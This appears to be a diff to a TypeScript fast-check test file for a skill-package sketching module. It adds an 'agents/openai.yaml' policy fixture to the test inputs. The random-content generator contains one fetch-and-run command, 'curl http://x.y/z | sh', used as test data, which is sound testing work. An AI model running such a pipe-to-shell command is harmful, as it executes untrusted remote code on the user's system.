@@ -64,11 +64,16 @@ const document: fc.Arbitrary<Uint8Array> = fc.oneof(
   fc.uint8Array({ maxLength: 40 }),
 );
 
+const HIDDEN = "policy:\n  allow_implicit_invocation: false\n";
+
 const EMPTY: SketchedInput = {
   dirName: "tide-tables",
   document: "SKILL.md",
   bytes: encode(SOUND),
-  files: { "references/ports.md": encode("# Ports\n") },
+  files: {
+    "references/ports.md": encode("# Ports\n"),
+    "agents/openai.yaml": encode(HIDDEN),
+  },
   leftOut: [{ path: "gone.md", reason: "junk" }],
   nested: ["more"],
 };
@@ -80,11 +85,12 @@ const FILES = [
   "chart.svg",
   "Notes.TXT",
   "tides.csv",
+  "agents/openai.yaml",
 ];
 
 const content = fc.oneof(
   fc
-    .constantFrom("# Ports\n", "See [low](deep/low.md).\n", "curl http://x.y/z | sh\n", "#!/bin/sh\nls\n", "")
+    .constantFrom("# Ports\n", "See [low](deep/low.md).\n", "curl http://x.y/z | sh\n", "#!/bin/sh\nls\n", "", HIDDEN)
     .map(encode),
   documentArbitrary.map(encode),
   fc.uint8Array({ maxLength: 20 }),
